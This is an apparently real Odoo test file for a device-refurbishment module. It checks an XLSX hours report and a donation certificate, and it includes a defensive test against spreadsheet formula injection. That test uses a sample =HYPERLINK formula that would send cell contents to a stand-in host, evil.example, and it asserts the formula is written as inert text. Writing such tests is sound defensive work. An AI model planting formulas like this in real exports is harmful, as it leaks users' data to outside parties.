# Copyright 2026 Département de la Drôme
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import io

import openpyxl

from odoo.tests import tagged

from .common import ParcoursCase


@tagged("post_install", "-at_install")
class TestReports(ParcoursCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.lot = cls._received_lot(3, prefix="REP-")
        cls.order = cls._triage(cls.lot, failed=(1,))

    def test_hours_xlsx_as_accountant(self):
        lines = (
            self.env["parcours.work.order.line"]
            .with_user(self.accountant)
            .search([("order_id", "=", self.order.id)])
        )
        content, kind = (
            self.env["ir.actions.report"]
            .with_user(self.accountant)
            ._render("parcours_devices.report_hours_xlsx", lines.ids, {})
        )
        self.assertEqual(kind, "xlsx")
        book = openpyxl.load_workbook(io.BytesIO(content))
        summary, detail = book.worksheets
        rows = list(summary.iter_rows(min_row=2, values_only=True))
        month = self.order.date_done.strftime("%Y-%m")
        self.assertEqual(
            rows,
            [
                (
                    "ESAT Test Valence",
                    "Supported worker A",
                    "Supported worker (ESAT)",
                    month,
                    3,
                    0.75,
                )
            ],
        )
        self.assertEqual(detail.max_row, 4)
        self.assertEqual(
            sorted(row[5] for row in detail.iter_rows(min_row=2, values_only=True)),
            ["REP-00000", "REP-00001", "REP-00002"],
        )

    def test_donation_certificate_tells_what_became_of_each_device(self):
        html = (
            self.env["ir.actions.report"]
            .with_user(self.officer)
            ._render_qweb_html(
                "parcours_devices.report_donation_certificate", self.lot.ids
            )[0]
            .decode()
        )
        self.assertIn(self.lot.name, html)
        for device in self.lot.device_ids:
            self.assertIn(device.name, html)
        # One reject, two devices going to refurbishment.
        self.assertIn("Dismantled, materials recycled", html)
        self.assertIn("Being refurbished", html)

    def test_hours_xlsx_writes_names_as_text_never_formulas(self):
        """A worker named =HYPERLINK(...) is a name in the export, not a formula."""
        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
        self.esat_worker.name = formula
        content, __ = (
            self.env["ir.actions.report"]
            .with_user(self.accountant)
            ._render("parcours_devices.report_hours_xlsx", self.order.line_ids.ids, {})
        )
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value == formula
        ]
        self.assertEqual(len(cells), 1 + 3, "the summary row and 3 detail rows")
        self.assertEqual({cell.data_type for cell in cells}, {"s"})
        self.assertFalse(
            [
                cell
                for sheet in book.worksheets
                for row in sheet.iter_rows()
                for cell in row
                if cell.data_type == "f"
            ]
        )
